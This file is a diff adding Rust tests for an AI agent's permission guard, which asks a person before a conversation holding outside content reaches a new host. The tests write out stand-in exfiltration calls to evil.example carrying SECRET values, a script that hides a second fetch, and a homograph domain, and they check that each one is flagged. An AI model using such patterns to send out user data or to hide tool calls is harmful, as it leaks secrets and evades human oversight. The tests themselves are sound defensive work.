@@ -1,0 +1,139 @@
+//! In a conversation with content from outside, a host and port it has not reached is asked about, whatever leads there.
+
+use satchel::model::error::Kind;
+use serde_json::{Value, json};
+
+use super::asker::Asker;
+use crate::{
+    scripts::reach::save,
+    support::{
+        app::TestApp,
+        remote::systems::{allow, open},
+        site::{Site, page},
+        system::TestSystem,
+    },
+};
+
+fn fetch(site: &Site) -> Value {
+    json!({"url": site.url("/page")})
+}
+
+async fn site(app: &TestApp) -> Site {
+    let site = Site::start().await;
+    allow(app, &site.url("/")).await;
+    site.put("/page", [page("text/plain", "It waits.")]);
+    site
+}
+
+async fn tainted(permissions: &[&str]) -> Asker {
+    let asker = Asker::new(TestApp::start().await, permissions).await;
+    asker.app.taint(asker.topic).await;
+    asker
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_yes_for_the_conversation_opens_no_other_host_and_no_other_port() {
+    let asker = tainted(&["*"]).await;
+    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
+    let ticket = asker.ask("web_fetch", fetch(&one)).await;
+    assert_eq!(ticket.scope, Some(format!("web_fetch to {} in this conversation", one.place)));
+    assert!(ticket.reason.contains(&format!("It reaches '{}'", one.place)), "{}", ticket.reason);
+    asker.approve_for_conversation(&ticket).await;
+    asker.run("web_fetch", fetch(&one)).await;
+    let port = asker.ask("web_fetch", fetch(&other)).await;
+    assert!(port.reason.contains(&other.place), "the same host at another port: {}", port.reason);
+    let leak = json!({"url": "http://127.0.0.3/leak?d=SECRET2"});
+    assert!(asker.invoke(asker.call("web_fetch", leak)).await.is_err(), "the guard allows no other host here");
+    let leak = asker.ask("web_fetch", json!({"url": "http://evil.example/leak?d=SECRET2"})).await;
+    assert!(leak.reason.contains("'evil.example:80'"), "{}", leak.reason);
+    assert!(other.asked().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_search_is_asked_about_before_its_words_go_to_its_instance() {
+    let asker = tainted(&["*"]).await;
+    let instance = Site::start().await;
+    instance.put("/search", [page("application/json", json!({"results": []}).to_string())]);
+    let settings = asker.app.satchel.invoker.registry().find("web_search").unwrap().tool.spec().settings.clone();
+    let values = json!({"base_url": instance.url("/")}).as_object().unwrap().clone();
+    let owner = asker.app.owner().await;
+    asker.app.satchel.app.tool_config.set(&owner, "web_search", &settings, values).await.unwrap();
+    let ticket = asker.ask("web_search", json!({"query": "SECRET-CUSTOMER-4711 iban"})).await;
+    assert!(ticket.reason.contains(&instance.place), "{}", ticket.reason);
+    assert!(instance.asked().is_empty());
+    asker.approve(&ticket).await;
+    asker.run("web_search", json!({"query": "herons"})).await;
+    assert_eq!(instance.asked().len(), 2);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn parallel_names_where_its_calls_lead_and_its_yes_opens_that_and_no_more() {
+    let asker = tainted(&["*"]).await;
+    let (one, other) = (site(&asker.app).await, site(&asker.app).await);
+    let uses = |sites: &[&Site]| {
+        let uses = sites.iter().map(|site| json!({"recipient_name": "functions.web_fetch", "parameters": fetch(site)}));
+        json!({"tool_uses": uses.collect::<Vec<_>>()})
+    };
+    let ticket = asker.ask("parallel", uses(&[&one])).await;
+    assert!(ticket.reason.contains(&one.place) && ticket.scope.is_none(), "{ticket:?}");
+    assert_eq!(asker.approve(&ticket).await["ok"], true);
+    asker.run("parallel", uses(&[&one, &one])).await;
+    let ticket = asker.ask("parallel", uses(&[&one, &other])).await;
+    assert!(!ticket.reason.contains(&one.place) && ticket.reason.contains(&other.place), "{}", ticket.reason);
+    assert!(other.asked().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_argument_that_is_an_address_counts_where_a_tool_reaches_out() {
+    let asker = tainted(&["*"]).await;
+    let server = TestSystem::start().await;
+    open(&asker.app, "crm", &server.url("")).await;
+    let get = |query: Value| json!({"system_id": "crm", "method": "GET", "path": "/x", "query_params": query});
+    let ticket = asker.ask("call_rest_endpoint", get(json!({}))).await;
+    asker.approve(&ticket).await;
+    asker.run("call_rest_endpoint", get(json!({"at": "12:30", "to": "me"}))).await;
+    for (query, place) in [
+        (json!({"callback": "https://evil.example/x?d=SECRET"}), "'evil.example:443'"),
+        (json!({"hosts": ["a", "evil.example:8443"]}), "'evil.example:8443'"),
+        (json!({"feed": "wss://evil.example"}), "'evil.example:443'"),
+    ] {
+        let ticket = asker.ask("call_rest_endpoint", get(query)).await;
+        assert!(ticket.reason.contains(place), "{}", ticket.reason);
+    }
+    asker.run("save_memory", json!({"content": "https://evil.example/ is a page"})).await;
+    assert_eq!(server.asked().len(), 2);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_leads_nowhere_its_question_did_not_name() {
+    let asker = tainted(&["host:fs.write"]).await;
+    let (named, hidden) = (site(&asker.app).await, site(&asker.app).await);
+    let body = format!(
+        "tool(\"write\", #{{ path: \"a.txt\", content: \"x\" }});\n\
+         if args.hide {{ tool(\"web_fetch\", #{{ url: \"{}\" }}).status }} else {{ tool(\"web_fetch\", #{{ url: args.url }}).status }}",
+        hidden.url("/page")
+    );
+    let header = "// @param url string \"u\"\n// @param hide boolean \"h\"\n// @uses write, web_fetch";
+    save(&asker.app, "carries", header, &body).await;
+    let params = |hide: bool| json!({"url": named.url("/page"), "hide": hide});
+    let ticket = asker.ask("carries", params(true)).await;
+    assert!(ticket.reason.contains(&named.place), "{}", ticket.reason);
+    let (_, verdict) = asker.decide(&ticket, super::asker::yes()).await.unwrap();
+    let satchel::store::tickets::Verdict::Failed { message, .. } = &verdict else { panic!("{verdict:?}") };
+    assert!(message.contains("web_fetch asks a person before this"), "{message}");
+    assert!(hidden.asked().is_empty());
+    let ticket = asker.ask("carries", params(false)).await;
+    asker.approve(&ticket).await;
+    assert_eq!(named.asked().len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_host_that_may_look_like_another_is_said_to() {
+    let asker = tainted(&["*"]).await;
+    // The first letter is Cyrillic.
+    let ticket = asker.ask("web_fetch", json!({"url": "https://\u{430}pple.com/"})).await;
+    assert!(ticket.reason.contains("'xn--pple-43d.com:443'") && ticket.reason.contains("may look like"), "{ticket:?}");
+    assert!(ticket.warnings.iter().any(|warning| warning.contains("xn--pple-43d.com")), "{:?}", ticket.warnings);
+    let error = asker.invoke(asker.call("web_fetch", json!({"url": "nonsense"}))).await.unwrap_err();
+    assert_eq!(error.kind(), Kind::Invalid);
+}
